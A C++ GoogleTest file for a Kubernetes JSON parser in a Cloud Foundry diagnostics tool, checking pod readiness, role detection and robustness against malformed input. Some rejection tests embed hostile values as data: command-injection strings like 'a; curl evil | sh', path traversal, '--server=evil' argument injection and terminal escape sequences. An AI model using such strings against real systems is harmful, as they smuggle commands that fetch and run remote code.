#include "lib/cluster/parse.hpp"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

namespace cfee {

namespace {

std::string list_of(const std::string& items) {
    return R"({"apiVersion":"v1","kind":"List","items":[)" + items + "]}";
}

std::string pod_with(const std::string& metadata) {
    return R"({"kind":"Pod","metadata":{)" + metadata + "}}";
}

constexpr std::string_view whole_pod = R"({
  "kind": "Pod",
  "metadata": {
    "name": "diego-api-0", "uid": "u-0", "creationTimestamp": "2026-11-22T10:00:00Z",
    "labels": {"skiff-role-name": "diego-api", "skiff-role-active": "true"},
    "ownerReferences": [{"kind": "Other", "name": "x", "uid": "x"},
                        {"kind": "StatefulSet", "name": "diego-api", "uid": "s-0", "controller": true}]
  },
  "spec": {"nodeName": "node-1", "containers": [{"name": "diego-api"}, {"name": "loggregator-agent"}]},
  "status": {
    "phase": "Running", "podIP": "10.0.0.1",
    "conditions": [{"type": "Initialized", "status": "True"}, {"type": "PodScheduled", "status": "True"},
                   {"type": "Ready", "status": "True"}],
    "containerStatuses": [
      {"name": "diego-api", "ready": true, "restartCount": 2, "state": {"running": {"startedAt": "x"}}},
      {"name": "loggregator-agent", "ready": true, "restartCount": 0, "state": {"running": {}}}]
  }
})";

/// The pod with one piece of its text replaced.
std::string with(std::string_view from, std::string_view to) {
    std::string text(whole_pod);
    const std::size_t at = text.find(from);
    EXPECT_NE(at, std::string::npos) << from;
    if (at != std::string::npos) text.replace(at, from.size(), to);
    return text;
}

/// The only pod of the list; an empty one where there is not exactly one.
Pod parsed(const std::string& item) {
    const Answer<std::vector<Pod>> pods = parse_pods(list_of(item));
    EXPECT_TRUE(pods.is_known());
    if (!pods.is_known() || pods.value().size() != 1) return {};
    return pods.value().front();
}

TEST(ParsePods, ReadsAWholePod) {
    const Pod pod = parsed(std::string(whole_pod));
    EXPECT_EQ(pod.name, "diego-api-0");
    EXPECT_EQ(pod.uid, "u-0");
    EXPECT_EQ(pod.role, Role::bbs);
    EXPECT_EQ(pod.role_name, "diego-api");
    EXPECT_EQ(pod.phase, "Running");
    EXPECT_EQ(pod.created, TimePoint{std::chrono::seconds{1795341600}});
    EXPECT_FALSE(pod.deleting);
    EXPECT_EQ(pod.label, ActiveLabel::active);
    EXPECT_TRUE(pod.says_ready);
    EXPECT_EQ(pod.unscheduled, "");
    ASSERT_EQ(pod.containers.size(), 2U);
    EXPECT_EQ(pod.containers[0].name, "diego-api");
    EXPECT_TRUE(pod.containers[0].is_ready);
    EXPECT_EQ(pod.containers[0].restarts, 2);
    EXPECT_EQ(pod.containers[0].waiting, "");
    EXPECT_EQ(pod.wanted_containers, 2);
    ASSERT_TRUE(pod.owner);
    EXPECT_EQ(pod.owner->kind, "StatefulSet");
    EXPECT_EQ(pod.owner->name, "diego-api");
    EXPECT_EQ(pod.owner->uid, "s-0");
    EXPECT_EQ(pod.node, "node-1");
    EXPECT_EQ(pod.address, "10.0.0.1");
    EXPECT_TRUE(pod.is_ready());
}

struct StateRow {
    std::string_view name;
    std::string item;
    bool is_ready;
    std::string summary;
    std::string hopeless = "";
};

TEST(ParsePods, KnowsStates) {
    const std::string not_ready_statuses =
        R"("containerStatuses": [
      {"name": "diego-api", "ready": false, "restartCount": 2, "state": {"running": {"startedAt": "x"}}})";
    const std::string statuses_begin = R"("containerStatuses": [
      {"name": "diego-api", "ready": true, "restartCount": 2, "state": {"running": {"startedAt": "x"}}})";
    const std::vector<StateRow> table{
        {"2/2", std::string(whole_pod), true, "2/2 Running"},
        {"1/1",
         R"({"kind":"Pod","metadata":{"name":"api-0","labels":{"skiff-role-name":"api"}},"spec":{"containers":[{}]},)"
         R"("status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}],)"
         R"("containerStatuses":[{"ready":true}]}})",
         true, "1/1 Running"},
        {"1/2", with(statuses_begin, not_ready_statuses), false, "1/2 Running"},
        {"Terminating",
         with(R"("uid": "u-0")", R"("uid": "u-0", "deletionTimestamp": "2026-11-22T10:09:00Z")"), false,
         "2/2 Terminating"},
        {"Terminating, nobody knows since when",
         with(R"("uid": "u-0")", R"("uid": "u-0", "deletionTimestamp": "soon")"), false, "2/2 Terminating"},
        {"Terminating, by a number", with(R"("uid": "u-0")", R"("uid": "u-0", "deletionTimestamp": 7)"),
         false, "2/2 Terminating"},
        {"deletionTimestamp null", with(R"("uid": "u-0")", R"("uid": "u-0", "deletionTimestamp": null)"),
         true, "2/2 Running"},
        {"Succeeded", with(R"("phase": "Running")", R"("phase": "Succeeded")"), false, "2/2 Succeeded"},
        {"Failed", with(R"("phase": "Running")", R"("phase": "Failed")"), false, "2/2 Failed", "Failed"},
        {"no containerStatuses", with("containerStatuses", "otherStatuses"), false, "0/2 Running"},
        {"Ready is False", with(R"("Ready", "status": "True")", R"("Ready", "status": "False")"), false,
         "2/2 Running"},
        {"Ready is Unknown", with(R"("Ready", "status": "True")", R"("Ready", "status": "Unknown")"), false,
         "2/2 Running"},
        {"Ready is no string", with(R"("Ready", "status": "True")", R"("Ready", "status": true)"), false,
         "2/2 Running"},
        {"no conditions", with("conditions", "otherConditions"), false, "2/2 Running"},
        {"unscheduled",
         R"({"kind":"Pod","metadata":{"name":"diego-api-0","labels":{"skiff-role-name":"diego-api"}},)"
         R"("spec":{"containers":[{},{}]},"status":{"phase":"Pending","conditions":[{"type":"PodScheduled",)"
         R"("status":"False","reason":"Unschedulable","message":"0/3 nodes are available"}]}})",
         false, "0/2 Pending", "Unschedulable: 0/3 nodes are available"},
        {"unscheduled without a message",
         R"({"kind":"Pod","metadata":{"name":"diego-api-0","labels":{"skiff-role-name":"diego-api"}},)"
         R"("status":{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"False",)"
         R"("reason":"Unschedulable"}]}})",
         false, "0/0 Pending", "Unschedulable: Unschedulable"},
        {"crashing",
         with(R"("ready": true, "restartCount": 2, "state": {"running": {"startedAt": "x"}})",
              R"("ready": false, "restartCount": 9, "state": {"waiting": {"reason": "CrashLoopBackOff"}})"),
         false, "1/2 CrashLoopBackOff", "CrashLoopBackOff"},
        {"waiting without a reason",
         with(R"("ready": true, "restartCount": 2, "state": {"running": {"startedAt": "x"}})",
              R"("ready": false, "restartCount": 9, "state": {"waiting": {}})"),
         false, "1/2 Running"},
    };
    for (const StateRow& row : table) {
        SCOPED_TRACE(row.name);
        const Pod pod = parsed(row.item);
        EXPECT_EQ(pod.is_ready(), row.is_ready);
        EXPECT_EQ(pod.summary(), row.summary);
        EXPECT_EQ(pod.hopeless(), row.hopeless);
    }
}

TEST(ParsePods, ReadsTheActiveLabel) {
    struct Row {
        std::string label;
        ActiveLabel expected;
    };
    const std::string written = R"(, "skiff-role-active": "true")";
    const std::vector<Row> table{
        {written, ActiveLabel::active},
        {R"(, "skiff-role-active": "false")", ActiveLabel::passive},
        {R"(, "skiff-role-active": "True")", ActiveLabel::passive},
        {R"(, "skiff-role-active": "")", ActiveLabel::absent},
        {R"(, "skiff-role-active": true)", ActiveLabel::absent},
        {R"(, "skiff-role-active": null)", ActiveLabel::absent},
        {"", ActiveLabel::absent},
    };
    for (const Row& row : table) EXPECT_EQ(parsed(with(written, row.label)).label, row.expected) << row.label;
}

TEST(ParsePods, KnowsAMeshByItsContainer) {
    const auto pod = [](const std::string& spec) {
        return parsed(R"({"kind":"Pod","metadata":{"name":"diego-api-0"},"spec":)" + spec + "}").is_in_mesh;
    };
    EXPECT_FALSE(pod(R"({"containers":[{"name":"diego-api"},{"name":"loggregator-agent"}]})"));
    EXPECT_TRUE(pod(R"({"containers":[{"name":"diego-api"},{"name":"istio-proxy"}]})"));
    EXPECT_TRUE(pod(R"({"containers":[{"name":"diego-api"}],"initContainers":[{"name":"linkerd-proxy"}]})"));
}

struct RoleRow {
    std::string_view name;
    std::string metadata;
    std::string role_name;        ///< empty: not ours
    std::string_view label = "";  ///< that says so
};

TEST(ParsePods, KnowsWhoseAPodIs) {
    const std::vector<RoleRow> table{
        {"label", R"("name":"x","labels":{"skiff-role-name":"api-group"})", "api-group", "skiff-role-name"},
        {"component", R"("name":"x","labels":{"app.kubernetes.io/component":"locket"})", "locket",
         "app.kubernetes.io/component"},
        {"both, the older one is believed",
         R"("name":"x","labels":{"skiff-role-name":"api","app.kubernetes.io/component":"diego-api"})", "api",
         "skiff-role-name"},
        {"older one is somebody else, and the other ours",
         R"("name":"x","labels":{"skiff-role-name":"diego-brain","app.kubernetes.io/component":"diego-api"})",
         "diego-api", "app.kubernetes.io/component"},
        {"null labels, StatefulSet",
         R"("name":"diego-api-0","labels":null,"ownerReferences":[{"controller":true,"name":"diego-api"}])",
         "diego-api"},
        {"no labels, ReplicaSet",
         R"("name":"diego-api-7c9d5f-x2x4z","ownerReferences":[{"controller":true,"name":"diego-api-7c9d5f"}])",
         "diego-api"},
        {"no labels, no owner", R"("name":"api-group-1")", "api-group"},
        {"labels of others only", R"("name":"api-0","labels":{"app":"x"})", "api"},
        {"component of others only", R"("name":"api-0","labels":{"app.kubernetes.io/component":"server"})",
         "api"},
        {"another role that carries the active label",
         R"("name":"diego-brain-0","labels":{"skiff-role-name":"diego-brain","skiff-role-active":"true"})",
         ""},
        {"routing-api", R"("name":"routing-api-0","labels":{"skiff-role-name":"routing-api"})", ""},
        {"a label says no in spite of the name",
         R"("name":"api-0","labels":{"skiff-role-name":"something-else"})", ""},
        {"api-worker", R"("name":"api-worker-0","ownerReferences":[{"controller":true,"name":"api-worker"}])",
         ""},
    };
    for (const RoleRow& row : table) {
        SCOPED_TRACE(row.name);
        const Answer<std::vector<Pod>> pods = parse_pods(list_of(pod_with(row.metadata)));
        ASSERT_TRUE(pods.is_known());
        ASSERT_EQ(pods.value().size(), row.role_name.empty() ? 0U : 1U);
        if (!row.role_name.empty()) {
            EXPECT_EQ(pods.value().front().role_name, row.role_name);
            EXPECT_EQ(pods.value().front().role_label, row.label);
        }
    }
}

TEST(ParsePods, KnowsABbsOfAnEditionWhoseNamesItDoesNotKnow) {
    const auto role = [](const std::string& name, const std::string& group) {
        const std::vector<Pod> pods =
            parse_pods(list_of(pod_with(R"("name":")" + name +
                                        R"(","labels":{"quarks.cloudfoundry.org/instance-group-name":")" +
                                        group + R"("})")))
                .value();
        return pods.empty() ? Role::other : pods.front().role;
    };
    EXPECT_EQ(role("x-diego-api-0", "diego-api"), Role::unjudged_bbs);
    EXPECT_EQ(role("diego-api-0", "diego-api"), Role::bbs) << "those it knows";
    EXPECT_EQ(role("x-diego-cell-0", "diego-cell"), Role::other);
}

TEST(ParsePods, HasAnOwnerOnlyWhereOneControls) {
    struct Row {
        std::string references;
        std::string name;
    };
    const std::string before =
        R"({"kind":"Pod","metadata":{"name":"api-0","labels":{"skiff-role-name":"api"},"ownerReferences":)";
    const std::vector<Row> table{
        {R"([{"name":"api","controller":true}])", "api"},
        {R"([{"name":"api"}])", ""},
        {R"([{"name":"api","controller":false}])", ""},
        {R"([{"name":"api","controller":"true"}])", ""},
        {R"({"name":"api","controller":true})", ""},
        {"[]", ""},
        {"[7,null,[]]", ""},
        {"null", ""},
    };
    for (const Row& row : table) {
        const Pod pod = parsed(before + row.references + "}}");
        EXPECT_EQ(pod.owner ? pod.owner->name : "", row.name) << row.references;
    }
}

// Whatever stands where, nothing throws, and a pod is never made better than it is.
TEST(ParsePods, StandsWrongTypesEverywhere) {
    const std::vector<std::string> keys{"metadata",
                                        "labels",
                                        "uid",
                                        "creationTimestamp",
                                        "ownerReferences",
                                        "spec",
                                        "nodeName",
                                        "containers",
                                        "status",
                                        "phase",
                                        "podIP",
                                        "conditions",
                                        "containerStatuses",
                                        "ready",
                                        "restartCount",
                                        "state",
                                        "running",
                                        "type"};
    for (const std::string& key : keys) {
        for (const std::string value :
             {"null", "7", "-1.5e300", "true", "\"x\"", "[]", "{}", "[[],{},7,null]"}) {
            SCOPED_TRACE(key + ": " + value);
            const std::string text = with("\"" + key + "\":", "\"" + key + "\": " + value + ", \"was\":");
            const Answer<std::vector<Pod>> pods = parse_pods(list_of(text));
            const bool is_name = key == "metadata" || key == "uid" || key == "nodeName" || key == "podIP";
            ASSERT_TRUE(pods.is_known() || is_name);
            ASSERT_TRUE(!pods.is_known() || pods.value().size() <= 1U);
        }
    }
    const std::vector<std::pair<std::string, std::string>> not_ready{
        {R"("conditions": [)", R"("conditions": 7, "was": [)"},
        {R"("containerStatuses": [)", R"("containerStatuses": {}, "was": [)"},
        {R"("containers": [)", R"("containers": null, "was": [)"},
        {R"("status": {)", R"("status": [], "was": {)"},
        {R"("ready": true)", R"("ready": "true")"},
        {R"("ready": true)", R"("ready": 1)"},
        {R"("phase": "Running")", R"("phase": ["Running"])"},
    };
    for (const auto& [from, to] : not_ready) EXPECT_FALSE(parsed(with(from, to)).is_ready()) << to;
}

TEST(ParsePods, StandsHugeNumbersAndDeepNesting) {
    for (const std::string number :
         {"2147483648", "-9223372036854775808", "18446744073709551615", "99999999999999999999999", "1e308"})
        EXPECT_EQ(parsed(with(R"("restartCount": 2)", R"("restartCount": )" + number)).name, "diego-api-0");
    const std::string deep = std::string(100'000, '[') + std::string(100'000, ']');
    EXPECT_EQ(parsed(with(R"("phase": "Running")", R"("phase": )" + deep)).name, "diego-api-0");
    EXPECT_FALSE(parse_pods(std::string(200'000, '[')).is_known());
    EXPECT_FALSE(parse_pods(std::string(200'000, '{')).is_known());
}

TEST(ParsePods, SaysWhenItIsNoList) {
    const std::string whole = list_of(std::string(whole_pod));
    const std::vector<std::string> table{"",
                                         " ",
                                         "null",
                                         "7",
                                         "[]",
                                         "{}",
                                         "true",
                                         "\"items\"",
                                         R"({"items":null})",
                                         R"({"items":{}})",
                                         R"({"items":7})",
                                         "No resources found",
                                         whole.substr(0, whole.size() - 1),
                                         whole.substr(0, whole.size() / 2),
                                         whole + "x",
                                         whole + whole,
                                         "\xff\xfe",
                                         list_of("\"\xff\""),
                                         std::string(1, '\0'),
                                         R"({"items":[1e999]})"};
    for (const std::string& text : table) {
        const Answer<std::vector<Pod>> pods = parse_pods(text);
        ASSERT_FALSE(pods.is_known()) << text;
        EXPECT_EQ(pods.trouble().kind, Trouble::Kind::garbled);
        EXPECT_FALSE(pods.trouble().text.empty());
    }
    EXPECT_NE(parse_pods("").trouble().text, parse_pods("x").trouble().text);
}

TEST(ParsePods, TakesAnEmptyListForAnAnswer) {
    const Answer<std::vector<Pod>> pods = parse_pods(list_of(""));
    ASSERT_TRUE(pods.is_known());
    EXPECT_TRUE(pods.value().empty());
}

TEST(ParsePods, AListOfOtherThingsIsNoListOfPods) {
    for (const std::string items :
         {"null", "7", "[]", "\"x\"", "{}", R"({"kind":"Pod"})", R"({"metadata":{"name":"x"}})",
          R"({"kind":"ConfigMap","metadata":{"name":"x"}})", R"({"kind":7,"metadata":{"name":"x"}})"}) {
        for (const std::string& text : {list_of(items), list_of(std::string(whole_pod) + "," + items)})
            EXPECT_EQ(parse_pods(text).is_known(), false) << text;
    }
}

// Whoever made a recording could write anything there, and it is printed, typed or made a file's name.
TEST(ParsePods, APodWithANameThatCannotBeIsNoPod) {
    const std::vector<std::pair<std::string, std::string>> table{
        {R"("name": "diego-api-0")", R"("name": "../../tmp/x")"},
        {R"("name": "diego-api-0")", R"("name": "a; curl evil | sh")"},
        {R"("name": "diego-api-0")", R"("name": "a\u001b[2J")"},
        {R"("name": "diego-api-0")", R"("name": "a\u202e")"},
        {R"("name": "diego-api-0")", R"("name": "")"},
        {R"("name": "diego-api-0")", R"("name": 7)"},
        {R"("name": "diego-api-0")", R"("was": 7)"},
        {R"("uid": "u-0")", R"("uid": "'; curl evil | sh; '")"},
        {R"("name": "diego-api", "uid": "s-0")", R"("name": "diego/api", "uid": "s-0")"},
        {R"("name": "diego-api", "uid": "s-0")", R"("name": "diego-api", "uid": "s 0")"},
        {R"("kind": "StatefulSet")", R"("kind": "Stateful\nSet")"},
        {R"("name": "diego-api", "ready")", R"("name": "--kubeconfig", "ready")"},
        {R"("name": "diego-api", "ready")", R"("name": "diego.api", "ready")"},
        {R"("nodeName": "node-1")", R"("nodeName": "--server=evil")"},
        {R"("podIP": "10.0.0.1")", R"("podIP": "`evil`")"},
    };
    for (const auto& [from, to] : table) {
        const Answer<std::vector<Pod>> pods = parse_pods(list_of(with(from, to)));
        ASSERT_FALSE(pods.is_known()) << to;
        EXPECT_EQ(pods.trouble().kind, Trouble::Kind::garbled) << to;
    }
}

TEST(ParsePods, WhatIsOnlyToldIsShownHarmlessly) {
    const Pod pod = parsed(with(R"("phase": "Running")", R"("phase": "\u001b[2J\u009b\u202eR")"));
    EXPECT_EQ(pod.phase, "<U+001B>[2J<U+009B><U+202E>R");
}

TEST(ParsePods, APodThatNobodyKnowsTheAgeOfIsNotOld) {
    for (const std::string time : {"null", "\"\"", "\"yesterday\"", "7"})
        EXPECT_NE(parsed(with(R"("2026-11-22T10:00:00Z")", time)).created, TimePoint{}) << time;
}

TEST(ParseObjects, ReadsAllThreeKinds) {
    const Answer<Objects> objects = parse_objects(list_of(R"(
        {"kind":"Service","metadata":{"name":"diego-api-bbs"},
         "spec":{"clusterIP":"10.1.0.1","selector":{"skiff-role-name":"diego-api","skiff-role-active":"true"}}},
        {"kind":"Service","metadata":{"name":"diego-api-set"},"spec":{"clusterIP":"None","selector":{"a":"b"}}},
        {"kind":"Service","metadata":{"name":"external"},"spec":{}},
        {"kind":"Endpoints","metadata":{"name":"diego-api-bbs"},
         "subsets":[{"addresses":[{"ip":"10.0.0.1","targetRef":{"name":"diego-api-0"}},{"ip":"10.0.0.9"}]},
                    {"notReadyAddresses":[{"ip":"10.0.0.2","targetRef":{"name":"diego-api-1"}}]}]},
        {"kind":"Endpoints","metadata":{"name":"diego-api-set"}},
        {"kind":"Endpoints","metadata":{"name":"null"},"subsets":null},
        {"kind":"StatefulSet","metadata":{"name":"diego-api","uid":"s-0"},"spec":{"replicas":2}},
        {"kind":"StatefulSet","metadata":{"name":"none"},"spec":{"replicas":0}},
        {"kind":"StatefulSet","metadata":{"name":"unsaid","deletionTimestamp":"2026-11-22T10:00:00Z"},"spec":{}})"));
    ASSERT_TRUE(objects.is_known());
    const auto& [services, endpoints, controllers] = objects.value();
    ASSERT_EQ(services.size(), 3U);
    EXPECT_EQ(services[0].name, "diego-api-bbs");
    EXPECT_TRUE(services[0].selects_active);
    EXPECT_FALSE(services[1].selects_active);
    ASSERT_EQ(endpoints.size(), 3U);
    EXPECT_EQ(endpoints[0].service, "diego-api-bbs");
    EXPECT_EQ(endpoints[0].ready, (std::vector<std::string>{"diego-api-0", "10.0.0.9"}));
    EXPECT_EQ(endpoints[0].not_ready, (std::vector<std::string>{"diego-api-1"}));
    EXPECT_TRUE(endpoints[1].ready.empty());
    EXPECT_TRUE(endpoints[2].ready.empty());
    ASSERT_EQ(controllers.size(), 3U);
    EXPECT_EQ(controllers[0].name, "diego-api");
    EXPECT_EQ(controllers[0].uid, "s-0");
    EXPECT_EQ(controllers[0].wanted, 2);
    EXPECT_FALSE(controllers[0].is_deleting);
    EXPECT_EQ(controllers[1].wanted, 0);
    EXPECT_EQ(controllers[2].wanted, 1) << "Kubernetes' default";
    EXPECT_TRUE(controllers[2].is_deleting);
}

TEST(ParseObjects, StandsWrongTypesAndNoLists) {
    const Answer<Objects> odd = parse_objects(list_of(
        R"({"kind":"Service","spec":7,"metadata":{"name":"a"}},{"kind":"Endpoints","subsets":[7],"metadata":{"name":"a"}},
           {"kind":"StatefulSet","spec":{"replicas":"many"},"metadata":{"name":"a"}})"));
    ASSERT_TRUE(odd.is_known());
    EXPECT_EQ(odd.value().services.size(), 1U);
    EXPECT_EQ(odd.value().controllers.size(), 1U);
    for (const std::string_view text : {"", "null", "{}", R"({"items":7})", R"({"items":[)", "\xff"})
        EXPECT_FALSE(parse_objects(text).is_known()) << text;
    EXPECT_TRUE(parse_objects(list_of("")).is_known());
}

TEST(ParseObjects, TakesNoOtherThingsAndNoNamesThatCannotBe) {
    for (
        const std::string items :
        {"null", "7", "[]", "{}", R"({"kind":"Service"})", R"({"kind":"Secret","metadata":{"name":"x"}})",
         R"({"kind":"Service","metadata":{"name":"x; sh"}})",
         R"({"kind":"Service","metadata":{"name":"x.y"}})",
         R"({"kind":"Endpoints","metadata":{"name":"\u202e"}})",
         R"({"kind":"Endpoints","metadata":{"name":"x"},"subsets":[{"addresses":[7]}]})",
         R"({"kind":"Endpoints","metadata":{"name":"x"},"subsets":[{"addresses":[{"ip":"`x`"}]}]})",
         R"({"kind":"Endpoints","metadata":{"name":"x"},"subsets":[{"notReadyAddresses":[{"targetRef":{"name":"/"}}]}]})",
         R"({"kind":"StatefulSet","metadata":{"name":"x","uid":"'"}})"}) {
        const Answer<Objects> objects = parse_objects(list_of(items));
        ASSERT_FALSE(objects.is_known()) << items;
        EXPECT_EQ(objects.trouble().kind, Trouble::Kind::garbled);
    }
}

TEST(ParseObjects, HugeReplicasAreNotSmall) {
    for (const std::string number : {"4294967296", "4294967298"}) {
        const auto objects = parse_objects(list_of(
            R"({"kind":"StatefulSet","metadata":{"name":"diego-api"},"spec":{"replicas":)" + number + "}}"));
        ASSERT_TRUE(objects.is_known());
        EXPECT_GT(objects.value().controllers.front().wanted, 2) << number;
    }
}

TEST(ParseContext, ReadsNameAndServer) {
    struct Row {
        std::string_view text;
        std::string name;
        std::string server;
    };
    const std::vector<Row> table{
        {R"({"current-context":"prod","clusters":[{"name":"p","cluster":{"server":"https://h:6443"}}]})",
         "prod", "https://h:6443"},
        {R"({"current-context":"","clusters":null})", "", ""},
        {R"({"current-context":7,"clusters":[7,{"cluster":[]}]})", "", ""},
        {"{}", "", ""},
    };
    for (const Row& row : table) {
        const Answer<Context> context = parse_context(row.text);
        ASSERT_TRUE(context.is_known()) << row.text;
        EXPECT_EQ(context.value().name, row.name);
        EXPECT_EQ(context.value().server, row.server);
    }
    for (const std::string_view text : {"", "null", "[]", "7", "{", "error: x", "\xff"}) {
        ASSERT_FALSE(parse_context(text).is_known()) << text;
        EXPECT_EQ(parse_context(text).trouble().kind, Trouble::Kind::garbled);
    }
}

TEST(ParseClientVersion, IsWhatKubectlWrites) {
    const std::vector<std::pair<std::string, std::string>> table{{R"("v1.34.2")", "v1.34.2"},
                                                                 {R"("v1.27.4-gke.900")", "v1.27.4-gke.900"},
                                                                 {R"("")", ""},
                                                                 {"null", ""}};
    for (const auto& [written, read] : table) {
        const Answer<std::string> version =
            parse_client_version(R"({"clientVersion":{"major":"1","gitVersion":)" + written + "}}");
        ASSERT_TRUE(version.is_known()) << written;
        EXPECT_EQ(version.value(), read);
    }
    for (const std::string_view text :
         {"", "null", "{}", R"({"clientVersion":"v1"})", R"({"clientVersion":{)"})
        EXPECT_FALSE(parse_client_version(text).is_known()) << text;
}

}  // namespace

}  // namespace cfee
